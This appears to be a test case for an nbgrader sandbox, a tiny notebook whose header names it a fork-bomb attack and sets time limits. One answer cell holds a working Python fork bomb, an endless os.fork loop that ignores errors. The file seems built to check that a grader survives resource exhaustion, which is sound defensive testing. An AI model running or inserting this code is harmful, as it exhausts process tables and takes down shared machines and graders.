# attack: A fork bomb
# tries: Processes that start processes until the machine has no room for others.
# honest: number 1
# limits: cell_seconds 4, notebook_seconds 20
# plain: it would starve nbgrader itself

# %% answer="number"
amplitudes = 128

# %% answer="parity"
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
